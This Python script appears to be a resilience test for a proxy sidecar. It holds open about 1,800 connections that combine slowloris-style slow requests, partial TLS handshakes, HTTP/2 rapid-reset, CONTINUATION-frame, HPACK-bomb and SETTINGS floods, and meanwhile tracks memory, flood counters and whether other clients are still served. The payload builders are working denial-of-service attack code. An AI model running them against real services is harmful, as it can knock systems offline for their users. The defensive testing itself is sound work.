# Attacks a sidecar in many ways at once, each with many connections, and asks it meanwhile what it takes: how much
# memory, how many connections it has cut off, and whether somebody else is still served.
import re
import resource
import socket
import struct
import sys
import time

target, port = sys.argv[1], 8080
limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL, LARGEST = struct.pack(">I", 8), 2**31 - 1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    length = len(value)
    if length < 127:
        size = bytes([length])
    else:
        size, length = b"\x7f", length - 127
        while length >= 128:
            size, length = size + bytes([length % 128 + 128]), length // 128
        size += bytes([length])
    return bytes([len(name)]) + name + size + value


def get(path):
    return b"\x82\x86\x41\x06target\x04" + bytes([len(path)]) + path


# The widest windows that there are.
BEGIN = PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, LARGEST)) + frame(8, 0, 0, struct.pack(">I", LARGEST - 65535))
HELLO = bytes.fromhex(sys.argv[2])
BOMB = get(b"/") + b"\x40" + literal(b"x", b"y" * 3000) + b"\xbe" * 4000
ENDLESS = b"".join(frame(1, 5, stream, get(b"/endless")) for stream in range(1, 200, 2))
RESETS = b"".join(frame(1, 5, stream, get(b"/")) + frame(3, 0, stream, CANCEL) for stream in range(1, 2000, 2))
CONTINUED = frame(1, 0, 1, get(b"/")) + b"".join(frame(9, 0, 1, b"\0" + literal(b"x", b"y" * 16000)) for _ in range(40))
FEW = frame(1, 5, 1, get(b"/"))

SIEGE = {
    "silent": (1000, b""),
    "slow head": (200, b"GET / HTTP/1.1\r\nx: " + b"y" * 40_000),
    "half a handshake": (100, HELLO),
    "half a hello": (100, HELLO[:-1]),
    "slow body": (100, b"POST / HTTP/1.1\r\nhost: target\r\ncontent-length: 9\r\n\r\n1"),
    "no reader": (100, b"GET /endless HTTP/1.1\r\nhost: target\r\n\r\n"),
    "pipeline without reader": (20, b"GET /denied HTTP/1.1\r\nhost: target\r\n\r\n" * 200),
    "streams without reader": (5, BEGIN + ENDLESS),
    "resets": (5, BEGIN + RESETS),
    "head without end": (5, BEGIN + CONTINUED),
    "bomb": (5, BEGIN + frame(1, 5, 1, BOMB)),
    "settings": (5, BEGIN + frame(4, 0, 0) * 5_000),
}


MEMORY = "process_resident_memory_bytes"
# Of those that are counted as floods.
FLOODS = SIEGE["resets"][0]


def connect():
    it = socket.socket()
    it.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    it.settimeout(10)
    it.connect((target, port))
    it.setblocking(False)
    return it


def send(it, data):
    """As much as is taken; what is left."""
    try:
        while data:
            data = data[it.send(data):]
    except BlockingIOError:
        pass
    except OSError:
        return b""
    return data


def asked(port, path):
    with socket.create_connection((target, port), 60) as it:
        it.sendall(b"GET %s HTTP/1.1\r\nhost: target\r\nconnection: close\r\n\r\n" % path)
        return b"".join(iter(lambda: it.recv(65536), b"")).decode()


def metric(name, text):
    return sum(int(float(value)) for value in re.findall(rf"^{name}(?:{{.*}})? (\S+)$", text, re.M))


def numbers():
    text = asked(15020, b"/stats/prometheus")
    return {name: metric(name, text) for name in (MEMORY, "palisade_http2_floods_total")}


assert asked(port, b"/").startswith("HTTP/1.1 200"), "it serves"
before = numbers()
held = [[connect(), data] for count, data in SIEGE.values() for _ in range(count)]
most, deadline, floods = before, time.monotonic() + 60, "palisade_http2_floods_total"
while most[floods] < FLOODS and time.monotonic() < deadline:
    for one in held:
        one[1] = send(*one)
    assert asked(port, b"/").startswith("HTTP/1.1 200"), "it serves others"
    now = numbers()
    most = {name: max(most[name], now[name]) for name in now}
print(len(held), most[floods], before[MEMORY], most[MEMORY])
